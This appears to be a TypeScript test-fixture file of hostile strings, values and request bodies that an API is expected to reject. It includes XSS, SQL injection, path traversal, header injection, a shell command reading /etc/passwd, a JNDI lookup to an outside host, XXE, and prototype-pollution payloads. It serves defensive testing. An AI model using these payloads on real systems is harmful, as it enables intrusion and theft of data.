/** Texts that have broken other systems. Each must be refused or returned unchanged. */
export const HOSTILE_TEXTS: readonly string[] = [
  // Stored XSS
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "javascript:alert('x')",
  '<svg/onload=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '</script><script>alert(1)</script>',
  '&lt;b&gt;&#x3C;',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  // SQL
  "'; drop table users; --",
  "' or '1'='1",
  '1; select pg_sleep(10)--',
  "' union select password_hash from users --",
  '$1 ${1} %s %n \\x27',
  // Paths and headers
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%00',
  'file:///etc/passwd',
  'valor\r\nSet-Cookie: a=b',
  'valor\r\nBCC: todos@ejemplo.es\r\n\r\nhola',
  'BEGIN:VEVENT\r\nEND:VCALENDAR',
  // Commands and templates
  '$(sleep 5) `id` | cat /etc/passwd',
  '${jndi:ldap://ejemplo.es/a}',
  '=cmd|"/c calc"!A1',
  // Property names of JavaScript objects
  '__proto__',
  'constructor',
  'toString',
  // Unicode
  '\u202Etxt.exe',
  'e\u0301\u0301\u0301\u0301\u200B\uFEFF',
  '\uD800',
  '😀'.repeat(50),
  'İıſK',
  // Whitespace and sizes
  ' \t\n ',
  'a'.repeat(300_000),
  '0',
  '-1e400',
  'null',
  '[object Object]',
  'a\u0000b',
];

/** Values of a type that no field has. */
export const HOSTILE_VALUES: readonly unknown[] = [
  null,
  true,
  0,
  -1,
  1e308,
  2 ** 53,
  [],
  ['a'],
  [[[[[]]]]],
  {},
  { $gt: '' },
  { $ne: null },
  { length: 1e9 },
  { then: 1 },
];

const json = 'application/json';
const deep = (depth: number) => `{"name":${'['.repeat(depth)}${']'.repeat(depth)}}`;

/** Raw bodies: content, content type, and accepted statuses. */
export const HOSTILE_BODIES: readonly {
  about: string;
  payload: string | Buffer;
  type: string;
  status: number[];
}[] = [
  { about: '__proto__', payload: '{"__proto__":{"polluted":true}}', type: json, status: [400] },
  {
    about: 'nested __proto__',
    payload: '{"a":{"b":{"__proto__":{"polluted":true}}}}',
    type: json,
    status: [400],
  },
  {
    about: 'constructor.prototype',
    payload: '{"constructor":{"prototype":{"polluted":true}}}',
    type: json,
    status: [400],
  },
  { about: 'a key with NUL', payload: '{"a\\u0000b":1}', type: json, status: [400] },
  { about: 'a value with NUL', payload: '{"name":"a\\u0000b"}', type: json, status: [400] },
  { about: 'depth 100,000', payload: deep(100_000), type: json, status: [400] },
  { about: 'depth 33', payload: deep(33), type: json, status: [400] },
  {
    about: '300,000 empty objects',
    payload: `{"exercises":[${'{},'.repeat(300_000)}{}]}`,
    type: json,
    status: [400],
  },
  {
    about: '100,000 fields',
    payload: `{${Array.from({ length: 70_000 }, (_, n) => `"k${n}":1`).join(',')}}`,
    type: json,
    status: [400],
  },
  { about: '10 MB', payload: `{"name":"${'x'.repeat(10_000_000)}"}`, type: json, status: [413] },
  { about: 'cut off', payload: '{"name":"a', type: json, status: [400] },
  { about: 'not JSON', payload: "{'name': NaN}", type: json, status: [400] },
  {
    about: 'invalid UTF-8',
    payload: Buffer.from([0x7b, 0x22, 0xc3, 0x28, 0x22, 0x3a, 0x31]),
    type: json,
    status: [400],
  },
  { about: 'an array', payload: '[1,2,3]', type: json, status: [400] },
  { about: 'a number', payload: '1e999', type: json, status: [400] },
  {
    about: 'XML',
    payload: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    type: 'application/xml',
    status: [415],
  },
  { about: 'a form', payload: 'name=x&role=ADMIN', type: 'application/x-www-form-urlencoded', status: [415] },
  { about: 'multipart', payload: '--b\r\n\r\n--b--', type: 'multipart/form-data; boundary=b', status: [415] },
  { about: 'text', payload: '{"name":"x"}', type: 'text/plain', status: [415] },
  { about: 'YAML', payload: 'name: !!js/function x', type: 'application/yaml', status: [415] },
  { about: 'a type that is none', payload: '{}', type: '%%;;==', status: [415] },
];
